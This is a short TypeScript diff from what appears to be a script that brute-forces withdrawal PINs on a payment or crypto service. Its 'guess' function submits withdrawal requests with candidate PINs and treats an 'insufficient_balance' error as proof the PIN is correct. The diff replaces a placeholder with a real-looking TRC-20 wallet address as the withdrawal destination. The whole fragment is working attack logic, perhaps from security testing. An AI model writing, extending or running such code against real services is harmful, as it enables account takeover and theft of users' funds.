@@ -37,7 +37,7 @@ const guess = async (pin: string) => {
       amount: 100,
       method_id: 102,
       withdrawal_code: pin,
-      fields: { 'Wallet address (TRC-20)': 'TXYZ' },
+      fields: { 'Wallet address (TRC-20)': 'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t' },
     },
   })
   return status === 429 ? 'locked' : body.code === 'insufficient_balance' ? 'right' : body.code
